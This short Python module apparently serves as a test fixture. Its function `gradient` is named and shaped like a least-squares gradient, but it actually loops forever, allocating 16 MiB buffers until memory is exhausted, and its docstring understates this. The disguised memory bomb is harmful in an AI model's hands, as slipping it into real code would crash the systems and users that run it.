"""Allocates a little, again and again."""


KEPT = []


def gradient(w, X, y):
    while True:
        KEPT.append(bytearray(1 << 24))
    return X.T @ (X @ w - y)


def dropout_eval(x, keep):
    return x
